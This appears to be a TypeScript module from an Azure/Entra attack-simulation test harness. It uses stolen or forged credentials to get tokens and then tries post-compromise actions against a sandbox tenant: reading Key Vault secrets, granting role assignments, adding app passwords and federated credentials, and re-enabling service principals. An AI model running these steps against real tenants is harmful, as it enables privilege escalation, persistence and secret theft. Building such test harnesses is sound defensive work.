import { fetch } from "undici";
import { z } from "zod";
import type { AttackCredential, CapabilitySpec } from "../scenario/format.ts";
import type { TenantHandle } from "../handle.ts";

/** What the adversary needs of a tenant: nothing that an attacker in the field would not have. */
export type Target = Pick<
  TenantHandle,
  "dispatcher" | "tenant" | "issuers" | "identityEndpoint" | "identityHeaderOf" | "proxyUrl"
>;

export interface Outcome {
  readonly succeeded: boolean;
  /** HTTP status; 0 when there was no answer. */
  readonly status: number;
  /** `AADSTS7000112`, `AuthorizationFailed`, `ForbiddenByRbac` …, as far as the answer says. */
  readonly error: string | undefined;
}

export interface Init {
  readonly method?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string;
}
/** Sends from the attacker's address; status 0 when there was no answer. */
export type Send = (url: string, init?: Init) => Promise<{ readonly status: number; readonly body: unknown }>;

export const TokenBody = z.object({ access_token: z.string() });

/** What a token is needed for. */
export const RESOURCES: Readonly<Record<Exclude<CapabilitySpec["do"], "get-token">, string>> = {
  "read-secret": "https://vault.azure.net",
  "list-role-assignments": "https://management.azure.com",
  "add-role-assignment": "https://management.azure.com",
  "add-secret": "https://graph.microsoft.com",
  "add-federated-credential": "https://graph.microsoft.com",
  "re-enable": "https://graph.microsoft.com",
};

export function nameOf(capability: CapabilitySpec): string {
  return (
    capability.name ?? (capability.as === undefined ? capability.do : `${capability.do} as ${capability.as}`)
  );
}

/** Asks for a new token with a stolen credential, in the way of its kind. */
export async function askForToken(
  send: Send,
  target: Target,
  credential: AttackCredential,
  resource: string,
) {
  if (credential.kind === "managed-identity") {
    const url = new URL(target.identityEndpoint);
    url.searchParams.set("api-version", "2019-08-01");
    url.searchParams.set("resource", resource);
    if (credential.clientId !== undefined) url.searchParams.set("client_id", credential.clientId);
    return sendDirectly(url, { "x-identity-header": target.identityHeaderOf(credential.resourceId) });
  }
  const proof =
    credential.kind === "secret"
      ? { client_secret: credential.secret }
      : {
          client_assertion_type: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
          client_assertion: target.issuers.issue(credential.issuer, {
            sub: credential.subject,
            aud: credential.audience,
          }),
        };
  const body = new URLSearchParams({
    grant_type: "client_credentials",
    client_id: credential.appId,
    scope: `${resource}/.default`,
    ...proof,
  });
  return send(`https://login.microsoftonline.com/${target.tenant.id}/oauth2/v2.0/token`, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: body.toString(),
  });
}

/** The endpoint is on loopback, as in a real sandbox: a forged request comes from inside, not from the attacker's address. */
async function sendDirectly(
  url: URL,
  headers: Record<string, string>,
): Promise<{ status: number; body: unknown }> {
  try {
    const answer = await fetch(url, { headers, signal: AbortSignal.timeout(10_000) });
    return { status: answer.status, body: parsed(await answer.text()) };
  } catch {
    return { status: 0, body: undefined };
  }
}

/** Does one thing with a token, and says whether it was allowed. */
export async function perform(
  send: Send,
  capability: Exclude<CapabilitySpec, { do: "get-token" }>,
  token: string,
): Promise<Outcome> {
  const { url, init } = requestFor(capability);
  const { status, body } = await send(url, { ...init, headers: { authorization: `Bearer ${token}` } });
  const error = errorOf(body);
  // Who is told that the assignment is there already was allowed to make it.
  const succeeded = (status >= 200 && status < 300) || error === "RoleAssignmentExists";
  return { succeeded, status, error: succeeded ? undefined : error };
}

function requestFor(capability: Exclude<CapabilitySpec, { do: "get-token" }>): {
  readonly url: string;
  readonly init: Init;
} {
  const graph = "https://graph.microsoft.com/v1.0";
  const arm = (path: string) => `https://management.azure.com${path}?api-version=2022-04-01`;
  const json = (method: string, body: unknown): Init => ({ method, body: JSON.stringify(body) });
  switch (capability.do) {
    case "read-secret":
      return {
        url: `https://${capability.vault}.vault.azure.net/secrets/${capability.secret}?api-version=7.4`,
        init: {},
      };
    case "list-role-assignments":
      return { url: arm(`${capability.scope}/providers/Microsoft.Authorization/roleAssignments`), init: {} };
    case "add-role-assignment":
      return {
        url: arm(
          `${capability.scope}/providers/Microsoft.Authorization/roleAssignments/${crypto.randomUUID()}`,
        ),
        init: json("PUT", {
          properties: {
            roleDefinitionId: capability.roleDefinitionId,
            principalId: capability.principalId,
            principalType: "ServicePrincipal",
          },
        }),
      };
    case "add-secret":
      return {
        url: `${graph}/applications/${capability.applicationId}/addPassword`,
        init: json("POST", { passwordCredential: { displayName: "rotation" } }),
      };
    case "add-federated-credential":
      return {
        url: `${graph}/applications/${capability.applicationId}/federatedIdentityCredentials`,
        init: json("POST", {
          name: `sync-${crypto.randomUUID().slice(0, 8)}`,
          issuer: capability.issuer,
          // Issuer and subject together must be new on an application, so each try needs a subject of its own.
          subject: `${capability.subject}:${crypto.randomUUID().slice(0, 8)}`,
          audiences: ["api://AzureADTokenExchange"],
        }),
      };
    case "re-enable":
      return {
        url: `${graph}/servicePrincipals/${capability.servicePrincipalId}`,
        init: json("PATCH", { accountEnabled: true }),
      };
    default:
      return capability satisfies never;
  }
}

const Failure = z.union([
  z.object({ error: z.object({ code: z.string(), innererror: z.object({ code: z.string() }).optional() }) }),
  z.object({ error_codes: z.array(z.number()).min(1) }),
  z.object({ message: z.string() }),
]);

/** The error's own code, from whichever service it is. */
export function errorOf(body: unknown): string | undefined {
  const failure = Failure.safeParse(body);
  if (!failure.success) return undefined;
  if ("error_codes" in failure.data) return `AADSTS${failure.data.error_codes[0] ?? ""}`;
  if ("message" in failure.data) return /AADSTS\d+/.exec(failure.data.message)?.[0] ?? "refused";
  return failure.data.error.innererror?.code ?? failure.data.error.code;
}

export function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}
